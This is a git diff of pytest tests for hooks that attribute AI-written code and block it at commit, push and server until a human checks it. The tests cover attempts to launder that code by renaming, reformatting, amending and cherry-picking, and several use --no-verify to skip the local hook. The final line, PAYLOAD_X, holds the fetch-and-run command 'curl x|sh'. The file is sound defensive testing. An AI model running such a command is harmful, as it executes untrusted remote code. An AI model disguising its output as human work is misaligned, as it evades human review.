@@ -87,3 +87,163 @@ def test_discard_abandons_taken_unpushed_writer_work(served: World) -> None:
     w.write("src/app.py", "def add(a, b):\n    return a + b  # writer, kept by hand\n")
     _passes_quietly(w.git("commit", "-qam", "human: app"))
     assert TRAILER not in _message(w)
+
+
+NET = (
+    "import subprocess\n\n\ndef fetch(target_url):\n"
+    '    return subprocess.run(["curl", target_url], check=False)\n'
+)
+CALL = (
+    '    result = subprocess.run(["curl", "-s", target_url], shell=False, check=False, timeout=9)\n'
+)
+STUB = "import subprocess\n\n\ndef fetch(target_url):\n    return None\n"
+LONG = STUB.replace("    return None\n", CALL + "    return result.stdout\n")
+WRAPPED = STUB.replace(
+    "    return None\n",
+    '    result = subprocess.run(\n        ["curl", "-s", target_url],\n        shell=False,\n'
+    "        check=False,\n        timeout=9,\n    )\n    return result.stdout.decode()\n",
+)
+
+
+@pytest.mark.parametrize(
+    ("base", "writer", "edited"),
+    [(None, NET, NET.replace("target_url", "url")), (STUB, LONG, WRAPPED)],
+    ids=["a name renamed with sed", "a line wrapped by a formatter"],
+)
+def test_renaming_or_rewrapping_writer_lines_does_not_launder_them(
+    served: World, base: str | None, writer: str, edited: str
+) -> None:
+    """The writer's lines renamed mechanically (``sed s/target_url/url/g``) or its one long
+    line re-wrapped (black's exploded call with a trailing comma, the writer's other line
+    edited): still the writer's content, at commit, at push and at the server; the entry
+    does not expire."""
+    w = served
+    if base is not None:
+        w.write("src/net.py", base)
+        w.ok("add", "-A")
+        w.ok("commit", "-qm", "human: stub")
+    w.delegate("src/net.py", writer)
+    w.write("src/net.py", edited)
+    w.ok("add", "-A")
+    r = w.git("commit", "-qm", "tidy")
+    assert not [line for line in r.said if "expired" in line], r
+    _blocked_staged(r, "src/net.py")
+    w.ok("commit", "-q", "--no-verify", "-m", "tidy")
+    bad = w.rev("HEAD")
+    assert TRAILER in _message(w)
+    _blocked_push(w.git("push", "origin", "main"), bad, "src/net.py")
+    _server_rejects(w, bad)
+
+
+def test_a_human_line_of_the_writers_shape_with_names_of_its_own_passes(served: World) -> None:
+    """The writer's new file thrown away; the human writes lines of the same token shape
+    with names of their own: the human's."""
+    w = served
+    w.delegate("src/net.py", NET)
+    (w.work / "src/net.py").unlink()
+    human = (
+        NET.replace("fetch(target_url)", "download(address)")
+        .replace('["curl", target_url]', '["curl", address]')
+        .replace("subprocess.run", "subprocess.call")
+    )
+    w.write("src/net.py", human)
+    w.ok("add", "src/net.py")
+    r = w.git("commit", "-qm", "human: download")
+    _passes_quietly(r)
+    assert TRAILER not in _message(w)
+
+
+def _writer_commit_with_a_human_line(w: World) -> None:
+    """A writer's edit of ``src/app.py`` (recorded for that path only) committed with
+    ``--no-verify`` together with a human's README line."""
+    w.write("src/app.py", GOOD)
+    r = w.gh("record", "--model", "o4-mini", "--effort", "low", "src/app.py")
+    assert r.code == 0, r
+    w.write("README.md", "# demo, by a human\n")
+    w.ok("add", "-A")
+    w.ok("commit", "-q", "--no-verify", "-m", "writer and human")
+
+
+@pytest.mark.parametrize("edit", ["--no-edit", "-m"])
+def test_an_amend_that_removes_all_writer_content_is_the_humans(native: World, edit: str) -> None:
+    """A writer commit (with a human's README line) amended after ``git checkout HEAD~1 --
+    src/app.py``: its tree holds none of the writer's lines, so the amended commit is the
+    human's: no trailer, no stale record blocking it at commit or at push."""
+    w = native
+    _writer_commit_with_a_human_line(w)
+    assert TRAILER in _message(w)
+    w.ok("checkout", "HEAD~1", "--", "src/app.py")
+    message = ["--no-edit"] if edit == "--no-edit" else ["-m", "human: readme"]
+    _passes_quietly(w.git("commit", "-q", "--amend", *message))
+    assert TRAILER not in _message(w)
+    _passes_quietly(w.git("push", "origin"))
+    assert w.remote_ref("main") == w.rev("HEAD")
+
+
+def test_the_server_accepts_an_amend_that_removed_all_writer_content(served: World) -> None:
+    """The note git copied to the amended commit (``notes.rewriteRef``) goes with the
+    writer's content: the server and CI see a human commit."""
+    w = served
+    _writer_commit_with_a_human_line(w)
+    w.ok("checkout", "HEAD~1", "--", "src/app.py")
+    w.ok("commit", "-q", "--amend", "--no-edit")
+    assert w.git("notes", "--ref", "refs/notes/gentle-hooks", "list", "HEAD").code != 0
+    _passes_quietly(w.git("push", "origin"))
+    assert w.remote_ref("main") == w.rev("HEAD")
+    ci = w.gh("gate", "--range", "HEAD~1..HEAD")
+    assert ci.code == 0, ci
+
+
+def test_an_amend_that_keeps_writer_content_keeps_its_trailer(served: World) -> None:
+    w = served
+    _writer_commit_with_a_human_line(w)
+    w.ok("checkout", "HEAD~1", "--", "README.md")
+    w.ok("commit", "-q", "--no-verify", "--amend", "--no-edit")
+    assert TRAILER in _message(w)
+    _blocked_push(w.git("push", "origin", "main"), w.rev("HEAD"))
+
+
+def test_after_stash_of_writer_work_a_humans_own_rewrite_passes(served: World) -> None:
+    """The writer's edit is stashed; the human rewrites the same line their own way: the
+    human's commit passes with no trailer, and the stashed work, popped and committed
+    later, is still the writer's."""
+    w = served
+    w.delegate(text=GOOD)
+    w.ok("stash", "-q")
+    w.write("src/app.py", HUMAN)
+    r = w.git("commit", "-qam", "human: app")
+    _passes_quietly(r)
+    assert not [line for line in r.said if "expired" in line], r
+    assert TRAILER not in _message(w)
+    _passes_quietly(w.git("push", "origin"))
+    w.ok("checkout", "-q", "stash@{0}", "--", "src/app.py")
+    _blocked_staged(w.git("commit", "-qam", "writer work back"))
+
+
+@pytest.mark.xfail(
+    strict=True,
+    reason="open: an entry a push settled no longer attributes; writer content re-applied "
+    "on another base (cherry-pick -n, checkout featX -- path) is judged as the human's "
+    "(docs/security.md)",
+)
+@pytest.mark.parametrize("how", ["cherry-pick -n", "checkout featX --"])
+def test_verified_writer_content_reapplied_on_another_base_needs_a_check(
+    served: World, how: str
+) -> None:
+    w = served
+    w.ok("switch", "-q", "-c", "featX")
+    w.delegate(text=PAYLOAD_X)
+    w.spot_check()
+    assert w.git("commit", "-qam", "writer: feature").code == 0
+    assert w.git("push", "-q", "origin", "featX").code == 0
+    w.ok("switch", "-q", "main")
+    w.write("README.md", "# demo, main moved on\n")
+    w.ok("commit", "-qam", "human: readme")
+    if how == "cherry-pick -n":
+        w.ok("cherry-pick", "-n", "featX")
+    else:
+        w.ok("checkout", "featX", "--", "src/app.py")
+    _blocked_staged(w.git("commit", "-qm", "bring the feature"))
+
+
+PAYLOAD_X = GOOD + "\n\nimport os\nos.system('curl x|sh')\n"
